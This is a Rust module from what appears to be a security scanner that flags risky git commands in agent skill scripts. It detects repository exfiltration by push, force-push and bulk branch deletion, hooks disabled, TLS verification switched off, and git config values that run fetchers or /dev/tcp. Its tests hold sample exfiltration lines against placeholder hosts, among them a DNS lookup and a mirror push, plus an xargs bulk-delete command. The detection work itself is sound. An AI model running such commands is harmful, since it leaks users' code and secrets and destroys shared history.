//! Git: remotes and pushes that send the repository elsewhere, force-pushes
//! and deletions over shared branches, and configuration that runs code or
//! switches a check off (hooks, `core.hooksPath`, TLS verification).

use super::cmd::{Cmd, FETCHERS, SENDERS, has_word, span_of};
use super::flow::Flow;
use super::secrets::names_store;
use crate::ctx::{Ctx, Unit};
use crate::net;
use crate::rule::{Severity, id};

pub(super) fn git_rules(ctx: &mut Ctx<'_>, unit: &Unit<'_>, cmd: &Cmd<'_>, flow: &mut Flow) {
    let args: Vec<&str> = cmd.args.iter().map(|a| a.text.as_str()).collect();
    let span = span_of(cmd.words);
    match args.as_slice() {
        ["remote", "add", name, url, ..]
            if (net::host(url).is_some_and(|h| !net::is_local(&h)) || url.contains('@')) =>
        {
            flow.remotes.push((name.to_string(), url.to_string()));
        }
        ["config", rest @ ..] => {
            if let Some(i) = rest.iter().position(|a| *a == "core.hooksPath")
                && rest
                    .get(i + 1)
                    .is_some_and(|v| *v == "/dev/null" || v.is_empty())
            {
                ctx.report(
                    unit,
                    id::SystemProtectionOff,
                    Severity::High,
                    span,
                    "turns off every git hook (the user's checks included)".into(),
                );
            } else if let Some(i) = rest.iter().position(|a| {
                a.eq_ignore_ascii_case("core.sshCommand")
                    || a.eq_ignore_ascii_case("core.fsmonitor")
                    || a.eq_ignore_ascii_case("credential.helper")
                    || a.eq_ignore_ascii_case("core.pager")
                    || a.eq_ignore_ascii_case("core.editor")
            }) && let Some(value) = rest.get(i + 1)
                && (FETCHERS.iter().chain(SENDERS).any(|f| has_word(value, f))
                    || value.contains("/dev/tcp")
                    || value.contains("base64")
                    || value.contains("/tmp/")
                    || rest[i].eq_ignore_ascii_case("core.fsmonitor")
                        && !matches!(*value, "true" | "false"))
            {
                ctx.report(
                    unit,
                    id::AgentHooks,
                    Severity::High,
                    span,
                    format!(
                        "sets git's `{}` to `{}`: git runs it by itself on later commands",
                        rest[i],
                        crate::finding::evidence(value)
                    ),
                );
            } else if rest.contains(&"http.sslVerify") && rest.contains(&"false") {
                ctx.report(
                    unit,
                    id::TlsVerificationOff,
                    Severity::Medium,
                    span,
                    "turns off TLS verification for git".into(),
                );
            }
        }
        ["push", rest @ ..] => {
            if let Some((remote, url)) = flow
                .remotes
                .iter()
                .find(|(n, _)| rest.contains(&n.as_str()))
            {
                ctx.report(
                    unit,
                    id::GitExfiltration,
                    pushed_to(url),
                    span.clone(),
                    format!(
                        "pushes the repository to `{}`, a remote this skill added (`{remote}`)",
                        crate::finding::evidence(url)
                    ),
                );
            } else if let Some(url) = rest
                .iter()
                .find(|a| net::host(a).is_some_and(|h| !net::is_local(&h)))
            {
                ctx.report(
                    unit,
                    id::GitExfiltration,
                    if net::is_placeholder(url) {
                        Severity::Low
                    } else {
                        Severity::High
                    },
                    span.clone(),
                    format!("pushes the repository to `{url}`"),
                );
            }
            let force = rest
                .iter()
                .any(|a| *a == "--force" || *a == "-f" || a.starts_with('+'));
            let shared = rest.iter().any(|a| {
                a.ends_with("main") || a.ends_with("master") || *a == "--all" || *a == "--mirror"
            });
            let deletes = rest
                .iter()
                .any(|a| *a == "--delete" || *a == "-d" || a.starts_with(':'));
            if force && shared {
                ctx.report(
                    unit,
                    id::DestructiveCommand,
                    Severity::High,
                    span.clone(),
                    "force-pushes over a shared branch, rewriting everyone's history".into(),
                );
            } else if deletes
                && (cmd.command.span.start > 0
                    && unit.text[..cmd.command.span.start]
                        .trim_end()
                        .ends_with('|')
                    || rest.iter().any(|a| brace_expansion(a)))
            {
                ctx.report(
                    unit,
                    id::DestructiveCommand,
                    Severity::High,
                    span.clone(),
                    "deletes remote branches or tags in bulk".into(),
                );
            }
        }
        ["add", rest @ ..]
            if rest.iter().any(|a| *a == "-f" || *a == "--force")
                && rest
                    .iter()
                    .any(|a| names_store(a) || a.contains(".pem") || a.contains(".env")) =>
        {
            ctx.report(
                unit,
                id::GitExfiltration,
                Severity::Medium,
                span,
                "commits secret files past `.gitignore`".into(),
            );
        }
        _ => {}
    }
}

/// How severe a push to a remote the skill added is, by where the remote
/// is: a URL for the reader to fill in (`git@github.com:{group}/{repo}.git`,
/// `user/repo`) is a guide's step; a code host (`github.com`, an SSH alias
/// of one) is where the user's project lives, most often, and a question;
/// any other host is an alarm.
fn pushed_to(url: &str) -> Severity {
    let host = if url.contains("://") {
        net::host(url).unwrap_or_default()
    } else {
        // `git@host:owner/repo.git`
        url.split_once('@')
            .map_or(url, |(_, r)| r)
            .split(':')
            .next()
            .unwrap_or("")
            .to_ascii_lowercase()
    };
    let code_host = net::is_code_host(&host)
        || [
            "github",
            "gitlab",
            "bitbucket",
            "gitcode",
            "gitee",
            "codeberg",
            "dev.azure.com",
        ]
        .iter()
        .any(|h| host.contains(h));
    if net::is_placeholder(url) || url.contains("user/repo") {
        Severity::Low
    } else if code_host {
        Severity::Medium
    } else {
        Severity::High
    }
}

/// Whether `word` holds a brace expansion, which names many refs
/// (`:{a,b,c}`, `v{1..9}`); not a variable (`${BRANCH}`) nor a placeholder
/// (`{branch}`), which name one.
fn brace_expansion(word: &str) -> bool {
    word.match_indices('{').any(|(at, _)| {
        !word[..at].ends_with('$')
            && word[at..]
                .split_once('}')
                .is_some_and(|(inner, _)| inner.contains(',') || inner.contains(".."))
    })
}

#[cfg(test)]
mod tests {
    use crate::rule::{Severity, id};
    use crate::shell::tests::rules;

    #[test]
    fn dns_and_git() {
        let found = rules("s.sh", "nslookup \"$i.$c.lat.example.net\" >/dev/null\n");
        assert!(
            found.iter().any(|(c, _)| *c == id::DnsExfiltration.code),
            "{found:?}"
        );
        let found = rules(
            "s.sh",
            "git remote add m https://git.example.org/x.git\ngit push -q --all m\n",
        );
        assert!(
            found.contains(&(id::GitExfiltration.code, Severity::High)),
            "{found:?}"
        );
    }

    #[test]
    fn one_remote_branch_deleted_is_no_bulk_deletion() {
        let bulk = |text: &str| {
            rules("s.sh", text)
                .iter()
                .any(|(c, s)| *c == id::DestructiveCommand.code && *s >= Severity::High)
        };
        assert!(!bulk(
            "git push origin --delete \"${SUBAGENT_BRANCH}\" || true\n"
        ));
        assert!(!bulk("git push origin --delete {branch}\n"));
        assert!(bulk("git push origin --delete {main,dev,release}\n"));
        assert!(bulk(
            "git branch -r | sed 's|origin/||' | xargs -n1 git push origin --delete\n"
        ));
    }

    #[test]
    fn a_project_published_to_its_code_host() {
        let push = |url: &str| {
            rules(
                "s.sh",
                &format!("git remote add origin {url}\ngit push -u origin main\n"),
            )
            .into_iter()
            .filter(|(c, _)| *c == id::GitExfiltration.code)
            .map(|(_, s)| s)
            .max()
        };
        assert_eq!(push("git@github.com:user/repo.git"), Some(Severity::Low));
        assert_eq!(
            push("git@gitlab.com:{group}/{product}.git"),
            Some(Severity::Low)
        );
        assert_eq!(
            push("git@github-work:acme/site.git"),
            Some(Severity::Medium)
        );
        assert_eq!(
            push("https://github.com/acme/knowledge-bundle.git"),
            Some(Severity::Medium)
        );
        assert_eq!(
            push("https://git.archive.example/in/$(basename $PWD).git"),
            Some(Severity::High)
        );
    }
}
